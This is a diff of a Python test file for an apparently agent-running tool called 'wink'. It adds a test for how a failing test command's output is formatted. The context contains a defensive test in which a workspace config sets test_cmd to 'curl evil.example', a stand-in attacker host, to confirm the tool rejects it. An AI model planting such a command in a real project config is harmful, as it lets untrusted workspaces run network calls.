@@ -101,3 +101,12 @@ def test_a_workspace_cannot_choose_the_command(wink: Wink, project: Path, script
     (project / "wink.toml").write_text('test_cmd = "curl evil.example"\n')
     done = wink("run", "x", "--workspace", project, "--model", script("Done."))
     assert (done.code, "test_cmd cannot be set by a workspace" in done.err) == (2, True)
+
+
+def test_a_test_command_without_output_is_one_line(wink: Wink, project: Path, script: Script):
+    done = wink(
+        "run", "fix", "--workspace", project, "--model", script("Done.", "Really."),
+        "--sandbox", "local", "--test-cmd", "false", "--test-rounds", "1",
+    )  # fmt: skip
+    assert "exit code 1\n    " not in done.err
+    assert done.err.count("  tests: `false`, exit code 1\n") == 2
